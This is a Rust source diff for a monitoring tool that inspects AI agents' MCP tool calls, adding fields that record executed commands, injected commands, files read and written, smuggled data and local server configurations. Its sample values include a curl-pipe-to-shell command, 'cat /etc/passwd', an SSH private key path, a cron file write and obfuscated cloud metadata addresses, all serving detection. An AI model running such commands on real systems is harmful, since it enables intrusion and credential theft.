@@ -103,6 +103,9 @@ const RPC: &[Channel] = &[Channel::Https, Channel::Http, Channel::Stdio];
 const ALL: &[Channel] = Channel::ALL;
 const HOST: &[Channel] = &[Channel::Https, Channel::Http, Channel::Stdio, Channel::Process];
 const SERVERS: &[Channel] = &[Channel::Https, Channel::Http, Channel::Config];
+const STARTS: &[Channel] = &[Channel::Process];
+const CONFIG: &[Channel] = &[Channel::Config];
+const LOCAL: &[Channel] = &[Channel::Config, Channel::Process];
 
 macro_rules! fields {
     ($($id:ident $name:literal $kind:ident $phase:ident $role:ident $retention:ident $channels:ident $sample:literal $doc:literal;)+) => {
@@ -162,6 +165,12 @@ fields! {
     ArgumentsDecoded "gnomon.arguments.decoded" List Message Evidence Transient RPC r#"["../../etc/passwd"]"# "The call's arguments as a server may come to read them: without characters that are not seen, in plain characters, percent-encoding (three times at most) and escapes undone; beside them the path that one leads to and what one holds in Base64 or hexadecimal, where that is another text. Judged, never stored.";
     ArgumentsAddresses "gnomon.arguments.addresses" List Message Evidence Transient RPC r#"["169.254.169.254"]"# "The IP addresses to which URLs in the call's arguments lead without a look-up, in whatever notation: `2852039166`, `0xa9fea9fe`, `[::ffff:a9fe:a9fe]`, `169.254.169.254.nip.io`, `localhost`. Judged, never stored.";
     ArgumentsNumbers "gnomon.arguments.numbers" List Message Evidence Transient RPC r#"["payment_card"]"# "Kinds of valid numbers in the call's arguments: `payment_card` (issuer, length and check digit), `iban` (country, length and check digits); published examples are left out. Judged, never stored.";
+    ArgumentsCommands "gnomon.arguments.commands" List Message Evidence Transient RPC r#"["curl -s http://192.0.2.1/x | sh"]"# "The command lines that a call has executed, one for each pipeline, in one form however they were written: quotes, escapes and variables that the text itself sets undone, programs without their folder, what only runs another command (`sudo`, `env`, `timeout`) left out, beside it what was run by `sudo`; homes as `~`; redirections as ` < ` and ` > `. Taken from arguments that are command lines and from code; scripts within them (`sh -c`, `ssh`, `find -exec`, `$(…)`, `os.system`) are lines of their own. What a text only mentions is none. Judged, never stored.";
+    ArgumentsInjected "gnomon.arguments.injected" List Message Evidence Transient RPC r#"["cat /etc/passwd"]"# "Commands with which an argument goes on behind a mark of a shell (`;`, `|`, `&&`, a line, `$(…)`, back-ticks), where neither the tool nor the argument is one for commands, code or texts. Judged, never stored.";
+    ArgumentsReads "gnomon.arguments.reads" List Message Evidence Transient RPC r#"["~/.ssh/id_rsa"]"# "Files that a call reads, attaches or sends, by its arguments, its commands or its code, as paths in one form: slashes for backslashes, dots followed, any user's home as `~`. Judged, never stored.";
+    ArgumentsWrites "gnomon.arguments.writes" List Message Evidence Transient RPC r#"["/etc/cron.d/update"]"# "Files that a call writes, in the same form. Judged, never stored.";
+    ArgumentsSmuggled "gnomon.arguments.smuggled" List Message Evidence Transient RPC r#"["revenue of the third quarter"]"# "Texts that URLs in a call's arguments carry in Base64 or hexadecimal: in a host, a path or a parameter. JSON is left out, as the states of sign-ons are. Judged, never stored.";
+    ToolKind "gnomon.tool.kind" List Message Evidence Transient RPC r#"["shell"]"# "What the tool of a call is for, by the words of its name and of its arguments: `shell`, `code`, `sql`, `editor` (writes files), `prose` (texts that people read). A server chooses the names. Judged, never stored.";
     BodyText "http.request.body.text" Str Message Evidence Transient WEB r#""{\"jsonrpc\":\"2.0\"""# "The first 1,024 bytes of the decoded request body. Judged, never stored.";
     BatchIndex "gnomon.batch.index" Int Message Evidence Stored RPC "0" "The message's place in a JSON-RPC batch, from 0; absent outside a batch.";
     Malformed "gnomon.malformed" Str Message Evidence Stored RPC r#""duplicate_key""# "Why a body that resembles JSON-RPC, or that its request calls MCP, could not be read; `too_many_messages` where more than 4,096 messages were counted and not judged, `charset` where JSON is said to be in a character set that is not read.";
@@ -169,7 +178,7 @@ fields! {
     Truncated "gnomon.truncated" List Message Evidence Stored RPC r#"["arguments"]"# "Parts that exceeded their bound and were not judged whole: `names`, `arguments`, or `tools` of a list.";
     Signatures "gnomon.signatures" List Message Evidence Stored RPC r#"["H1","B3"]"# "Wire signatures of MCP in the request.";
     ResponseSignatures "gnomon.response.signatures" List Response Evidence Stored RPC r#"["R1"]"# "Wire signatures of MCP in the answer.";
-    ResponseMalformed "gnomon.response.malformed" Str Response Evidence Stored RPC r#""duplicate_key""# "Why the answer to a message of JSON-RPC, or a part of it, could not be read as one thing: as `gnomon.malformed` has it, `charset`, `content_coding`, `no_room`. Rules on what an answer says are undecided then: those that refuse do, and others say nothing.";
+    ResponseMalformed "gnomon.response.malformed" Str Response Evidence Stored RPC r#""duplicate_key""# "Why the answer to a message of JSON-RPC, or a part of it, could not be read as one thing: as `gnomon.malformed` has it, `charset`, `content_coding`; or why it was not read to its end, where that is a bound of gnomon's and not the server's doing: `bound_no_room`, `bound_too_many_messages`. Rules on what an answer says are undecided then: those that refuse do, and others say nothing.";
     RpcStatus "rpc.response.status_code" Str Response Evidence Stored RPC r#""-32602""# "The code of a JSON-RPC error.";
     ErrorType "error.type" Str Response Evidence Stored ALL r#""tool_error""# "Failure: `tool_error`, a JSON-RPC code, an HTTP status, or the reason that no answer came.";
     Tools "gnomon.tools" List Response Evidence Address RPC r#"["echo","read_file"]"# "Tool names of a `tools/list` result, at most 512.";
@@ -215,10 +224,11 @@ fields! {
     ExecutableHash "process.executable.hash.sha256" Str Connect Evidence Stored HOST r#""2cf24dba5fb0a30e26e83b2ac5b9e29e1b161e5c1fa7425e73043362938b9824""# "SHA-256 of that file.";
     Image "gnomon.process.image" Str Connect Evidence Stored HOST r#""on_disk""# "Location of the running program's file: on_disk, deleted (removed or replaced since it was started) or memory (it never was in a file system).";
     CommandLine "process.command_line" Str Connect Evidence Stored HOST r#""node agent.js""# "The command line, bounded.";
+    ParentPid "process.parent.pid" Int Connect Evidence Stored STARTS "4700" "Process id of the parent.";
     ParentExecutable "process.parent.executable.path" Str Connect Evidence Stored HOST r#""/usr/bin/bash""# "The parent program's file.";
     Ancestors "process.ancestors" List Connect Evidence Stored HOST r#"["/usr/bin/bash","/usr/sbin/sshd"]"# "Program files of the ancestors, nearest first.";
-    UserId "user.id" Str Connect Evidence Stored HOST r#""1000""# "Numeric user id.";
-    UserName "user.name" Str Connect Evidence Stored HOST r#""ada""# "The user's name: of the process, else as the proxy authenticated it.";
+    UserId "user.id" Str Connect Evidence Stored ALL r#""1000""# "Numeric user id.";
+    UserName "user.name" Str Connect Evidence Stored ALL r#""ada""# "The user's name: of the process, else as the proxy authenticated it.";
     UserGroups "user.group.names" List Connect Evidence Stored HOST r#"["engineering"]"# "Groups of the user.";
     ContainerId "container.id" Str Connect Evidence Stored HOST r#""1f2d3c4b5a69""# "Container id from the cgroup path, where root or a service of root's made that cgroup: the outermost. What a user names below their own slice is not taken for one.";
     ContainerRuntime "container.runtime.name" Str Connect Evidence Stored HOST r#""docker""# "Runtime of that container, by the name of its cgroup: docker, containerd, cri-o, podman, systemd-nspawn, lxc, or unknown.";
@@ -227,13 +237,28 @@ fields! {
     ProcessIdentity "gnomon.process.identity" Str Connect Evidence Stored HOST r#""confirmed""# "Certainty of the process: `confirmed` as the program that connected, `unverified` where the kernel half cannot rule out another exec, or the reason that it is not known: late, gone, stale, unreadable or busy.";
     HostName "host.name" Str Connect Evidence Stored ALL r#""build-17""# "The host that gnomon runs on.";
 
+    // Servers that run on this host.
+    PackageEcosystem "package.ecosystem" Str Connect Evidence Stored LOCAL r#""npm""# "Registry of the package that a local server is started from: npm, pypi or docker.";
+    PackageName "package.name" Str Connect Evidence Stored LOCAL r#""@modelcontextprotocol/server-filesystem""# "Name of that package, as the arguments have it: what they claim, not what was fetched.";
+    PackageVersion "package.version" Str Connect Evidence Stored LOCAL r#""2025.8.21""# "Version, range, tag or digest that the arguments name; absent where they name none.";
+    PackagePinned "gnomon.package.pinned" Bool Connect Evidence Stored LOCAL "false" "Whether that is one content for ever: an exact version or a digest. If not, the next start may run other code.";
+    PackageRunner "gnomon.package.runner" Str Connect Evidence Stored LOCAL r#""npx""# "What fetches and starts the package: npx, pnpm dlx, yarn dlx, bunx, deno, uvx, pipx, python -m or docker.";
+    LocalServer "gnomon.local.server" Str Connect Evidence Address LOCAL r#""pkg:npm/@modelcontextprotocol/server-filesystem""# "The local server: `pkg:`, registry and name of its package, else `file:` and its script or program.";
+    LocalKnownBy "gnomon.local.known_by" Str Connect Evidence Stored LOCAL r#""catalogue""# "Why it is taken for an MCP server: its package is in the catalogue, a configuration file lists it (config), or its name says so (name).";
+    ConfigClient "gnomon.config.client" Str Connect Evidence Stored CONFIG r#""Cursor""# "The client whose configuration file it is.";
+    ConfigPath "gnomon.config.path" Str Connect Evidence Stored CONFIG r#""/home/ada/.cursor/mcp.json""# "The configuration file.";
+    ConfigEntry "gnomon.config.entry" Str Connect Evidence Address CONFIG r#""files""# "The name that the file gives the server.";
+    ConfigChange "gnomon.config.change" Str Connect Evidence Stored CONFIG r#""first_seen""# "What became of the entry: first_seen, changed or removed; unread where the file cannot be read.";
+    ConfigSecrets "gnomon.config.secrets" List Connect Evidence Stored CONFIG r#"["env.GITHUB_TOKEN github-token"]"# "Where secrets stand in the entry, and what each looks like; never the secret.";
+    Agent "gnomon.agent" Str Connect Evidence Stored STARTS r#""Claude Code""# "The nearest known agent among the ancestors, by the names of their files, scripts and packages.";
+
     // Ours.
     Channel "gnomon.channel" Str Connect Evidence Stored ALL r#""https""# "Channel of the call: https, http, stdio, config or process.";
     Sanctioned "gnomon.sanctioned" Bool Hello Evidence Stored ALL "false" "Whether the organisation named this server as allowed.";
     ServerReview "gnomon.server.review" Str Hello Evidence Stored SERVERS r#""denied""# "People's decision about the server (`gnomon review`): in_review, approved, denied or expired; absent without one.";
     Catalogue "gnomon.server.catalogue" Str Hello Evidence Stored SERVERS r#""mcp""# "Class of the server in the host catalogue: mcp, llm-api …";
     Correlation "gnomon.correlation" Str Connect Evidence Stored WEB r#""none""# "Means by which the request was tied to its process: owner, client_random, tuple or none.";
-    Vantage "gnomon.vantage" Str Connect Evidence Stored ALL r#""proxy""# "Vantage point of gnomon: flow, proxy, portal, upstream, plaintext, stdio, replay.";
+    Vantage "gnomon.vantage" Str Connect Evidence Stored ALL r#""proxy""# "Vantage point of gnomon: flow, proxy, portal, upstream, plaintext, stdio, process, config, replay.";
     FlowId "gnomon.flow.id" Str Connect Outcome Stored WEB r#""019a9f3e-4b7c-7d10-a2cd-3f4f6f1c0b12""# "Names the connection.";
     FlowOutcome "gnomon.flow.outcome" Str Response Outcome Stored WEB r#""bypassed""# "End of a connection that was not read as HTTP: bypassed, passthrough, refused, ca_rejected, upstream_unverified, observed (seen in the kernel only), around_proxy …";
     Passage "gnomon.passage" Str Message Evidence Stored WEB r#""request_line_odd""# "Why a connection or a message was passed on, or refused, unread; see docs/rules.md.";
@@ -257,9 +282,6 @@ const UNFILLED: &[&str] = &[
     "gnomon.dlp.findings",
     "k8s.namespace.name",
     "k8s.pod.name",
-    "package.ecosystem",
-    "package.name",
-    "package.version",
 ];
 
 /// Fields whose texts are matched as they pass, over their whole length. No observation of traffic holds their values: it holds what was found in
@@ -291,6 +313,7 @@ const PASSAGES: &[&str] = &[
     "grpc",
     "no_room",
     "rows",
+    "events_unreadable",
     "foreign_body",
 ];
 
@@ -319,6 +342,9 @@ impl Field {
             Self::Transport => Some(&["tcp", "udp"]),
             Self::Image => Some(&["on_disk", "deleted", "memory"]),
             Self::ServerReview => Some(&["in_review", "approved", "denied", "expired"]),
+            Self::PackageEcosystem => Some(&["npm", "pypi", "docker"]),
+            Self::ConfigChange => Some(&["first_seen", "changed", "removed", "unread"]),
+            Self::LocalKnownBy => Some(&["catalogue", "config", "name"]),
             _ => None,
         }
     }
